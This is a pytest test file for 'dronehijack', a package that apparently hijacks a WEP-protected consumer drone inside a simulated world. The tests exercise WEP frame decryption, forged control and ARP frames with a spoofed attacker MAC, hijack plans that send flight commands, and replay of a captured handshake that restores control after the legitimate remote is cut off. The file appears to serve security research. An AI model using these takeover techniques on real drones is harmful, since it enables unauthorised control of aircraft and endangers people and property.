import json

import pytest

from dronehijack import data
from dronehijack.attack import (
    DEFAULT_KEY,
    ConnectFailed,
    DirectTransport,
    ForgedFrames,
    HijackPlan,
    InvalidPlan,
    StepUnverified,
    TakeoverMode,
    TemplateMissing,
    all_commands_plan,
    expected_effect,
    extract_templates,
    forge_session,
    handshake_segment,
    hijack,
    hijack_world,
    replay,
    verify_effect,
)
from dronehijack.attack.hijack import observed_effect
from dronehijack.framing import CommandId, decode_control, movement_for
from dronehijack.linkproto import LinkConfig, dot11
from dronehijack.simworld import DroneBody, World
from dronehijack.wepcrypt import WepKey, decrypt_capture, wep_decrypt
from dronehijack.wepcrypt.wep import WepFrame

CFG = LinkConfig(wep_key=DEFAULT_KEY)
ATTACKER = bytes.fromhex("0200de0a0b0c")


def test_templates_from_capture_match_reference(labeled_decrypted):
    got = extract_templates(labeled_decrypted)
    ref = ForgedFrames.reference(CFG)
    assert got.initiator == ref.initiator
    assert got.control_prefix == ref.control_prefix and got.control_unknown == ref.control_unknown
    assert got.arp_request == ref.arp_request
    assert (got.drone_ip, got.rc_ip) == (CFG.drone_ip_bytes, CFG.rc_ip_bytes)
    assert ForgedFrames.from_json(json.loads(json.dumps(got.to_json()))) == got


def test_templates_need_decrypted_capture(labeled_run):
    with pytest.raises(TemplateMissing):
        extract_templates(labeled_run.capture)


def test_forged_control_is_valid():
    factory = forge_session(DEFAULT_KEY, ForgedFrames.reference(CFG), ATTACKER)
    factory.drone_mac = CFG.drone_mac_bytes
    frame = dot11.parse_dot11(factory.control(CommandId.FullBackward))
    assert frame.src == ATTACKER and frame.dst == CFG.drone_mac_bytes and frame.protected
    udp = dot11.parse_plaintext(wep_decrypt(DEFAULT_KEY, WepFrame.from_bytes(frame.body)))
    assert decode_control(udp.payload).movement == movement_for(CommandId.FullBackward)
    # fresh IV per frame
    ivs = {dot11.parse_dot11(factory.control(CommandId.Idle)).body[:3] for _ in range(50)}
    assert len(ivs) == 50


def test_forged_arp_uses_attacker_mac():
    factory = forge_session(DEFAULT_KEY, ForgedFrames.reference(CFG), ATTACKER)
    frame = dot11.parse_dot11(factory.arp_request())
    arp = dot11.parse_plaintext(wep_decrypt(DEFAULT_KEY, WepFrame.from_bytes(frame.body)))
    assert arp.sha == ATTACKER and arp.tpa == CFG.drone_ip_bytes


def test_plan_json_and_validation(tmp_path):
    plan = all_commands_plan()
    assert [c for c, _ in plan.steps][0] is CommandId.Ready and len(plan.steps) == 10
    assert HijackPlan.from_dict(plan.to_dict()) == plan
    assert data.all10_plan() == plan
    with pytest.raises(InvalidPlan):
        HijackPlan.from_dict({"steps": []})
    with pytest.raises(InvalidPlan):
        HijackPlan.from_dict({"steps": [{"command": "Jump", "duration": 1}]})
    with pytest.raises(InvalidPlan):
        HijackPlan.from_dict({"steps": [{"command": "FU", "duration": 0}]})


def test_effect_model():
    air = DroneBody(z=5, propellers=True, airborne=True)
    exp = expected_effect(CommandId.FullForward, 0.5, air)
    after = DroneBody(y=exp["dy"], z=5, propellers=True, airborne=True)
    assert verify_effect(CommandId.FullForward, exp, observed_effect(air, after))
    short = DroneBody(y=exp["dy"] * 0.85, z=5, propellers=True, airborne=True)
    assert not verify_effect(CommandId.FullForward, exp, observed_effect(air, short))
    # no movement is possible on the ground
    ground = DroneBody(propellers=True)
    assert not verify_effect(CommandId.FullFlyLeft, expected_effect(CommandId.FullFlyLeft, 0.5, ground), observed_effect(ground, ground))
    assert verify_effect(CommandId.Idle, expected_effect(CommandId.Idle, 0.5, air), observed_effect(air, air))


@pytest.mark.parametrize("mode", list(TakeoverMode))
def test_hijack_all_commands(mode):
    world = hijack_world(mode, seed=3)
    report = hijack(all_commands_plan(mode), DirectTransport(world), DEFAULT_KEY, ForgedFrames.reference(CFG))
    assert report.all_verified, report.to_json()
    assert report.channel == CFG.channel and report.drone_mac == CFG.drone_mac_bytes
    if mode is TakeoverMode.CoexistWithRc:
        assert world.drone.peers[CFG.rc_mac_bytes].connected


def test_hijack_fails_with_wrong_key():
    world = hijack_world(TakeoverMode.AfterRcDisconnect, seed=1)
    with pytest.raises(ConnectFailed):
        hijack(all_commands_plan(), DirectTransport(world), WepKey(bytes(5)), ForgedFrames.reference(CFG), channel=149)


def test_strict_mode_raises_on_unverified_step():
    world = hijack_world(TakeoverMode.AfterRcDisconnect, seed=1)
    plan = HijackPlan(((CommandId.FullForward, 0.5),))  # props are off: no motion
    with pytest.raises(StepUnverified):
        hijack(plan, DirectTransport(world), DEFAULT_KEY, ForgedFrames.reference(CFG), channel=149, strict=True)


def test_hijack_scans_other_channel():
    cfg = LinkConfig(wep_key=DEFAULT_KEY, channel=161)
    world = hijack_world(TakeoverMode.AfterRcDisconnect, seed=2, cfg=cfg)
    plan = HijackPlan(((CommandId.Ready, 0.5),))
    report = hijack(plan, DirectTransport(world), DEFAULT_KEY, ForgedFrames.reference(cfg))
    assert report.channel == 161 and report.all_verified


def _recorded_world(seed):
    world = World(CFG, seed=seed, monitor=True)
    world.run_for(3.0)
    return world


def test_handshake_segment_contents():
    world = _recorded_world(1)
    seg = handshake_segment(world.capture, CFG.rc_mac_bytes, duration=1.0)
    kinds = [dot11.classify(r.frame).kind for r in seg]
    assert kinds[0] is dot11.FrameKind.ArpRequest
    assert dot11.FrameKind.ConnectionInitiator in kinds
    assert all(dot11.parse_dot11(r.frame).src == CFG.rc_mac_bytes for r in seg)
    assert seg[-1].ts_us - seg[0].ts_us <= 1_000_000


def test_replay_restores_control():
    world = _recorded_world(6)
    seg = handshake_segment(world.capture, CFG.rc_mac_bytes, duration=1.0)
    world.power_off_rc()
    world.run_for(1.2)
    assert not world.drone.connected_peers
    result = replay(seg, DirectTransport(world, "replayer"))
    assert result.injected == len(seg) and result.ticks <= 51
    assert world.drone.connected_peers


def test_replay_needs_frames():
    world = World(CFG, seed=0)
    with pytest.raises(ValueError):
        replay([], DirectTransport(world))
